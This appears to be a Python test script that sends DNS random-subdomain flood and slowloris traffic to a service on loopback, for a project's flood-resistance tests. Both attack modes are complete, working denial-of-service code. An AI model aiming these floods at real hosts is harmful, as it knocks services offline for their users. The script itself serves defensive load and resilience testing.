#!/usr/bin/env python3
"""Attack traffic for canarytrap's flood tests, on loopback.

  flood.py dns PORT ZONE SECONDS        random names under ZONE (and outside it) over UDP, as fast as it can
  flood.py slow PORT COUNT SECONDS      COUNT TCP connections sending one byte of a request a second (slowloris)

Prints "started" once the attack is under way, and a summary line at the end.
"""
import os
import random
import socket
import string
import struct
import sys
import time

mode, port, arg, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
deadline = time.time() + seconds


def query(name):
    header = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + q + struct.pack(">HH", 1, 1)


if mode == "dns":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    sent = 0
    print("started", flush=True)
    while time.time() < deadline:
        for _ in range(200):
            label = "".join(random.choices(string.ascii_lowercase + string.digits, k=17))
            name = label + "." + (arg if random.random() < 0.9 else "example.com")
            try:
                s.sendto(query(name), ("127.0.0.1", port))
                sent += 1
            except BlockingIOError:
                pass
        try:
            while True:
                s.recv(4096)
        except BlockingIOError:
            pass
    print("sent", sent, flush=True)
elif mode == "slow":
    count = int(arg)
    socks = []
    for _ in range(count):
        c = socket.create_connection(("127.0.0.1", port))
        c.setblocking(False)
        socks.append(c)
    print("started", flush=True)
    request = b"GET / HTTP/1.1\r\nHost: x\r\nX-a: " + b"a" * 10000
    i = 0
    while time.time() < deadline:
        for c in socks:
            try:
                c.send(request[i:i + 1])
            except OSError:
                pass
        i += 1
        time.sleep(1)
    alive = 0
    for c in socks:
        try:
            c.send(b"a")
            alive += 1
        except OSError:
            pass
    print("still open", alive, flush=True)
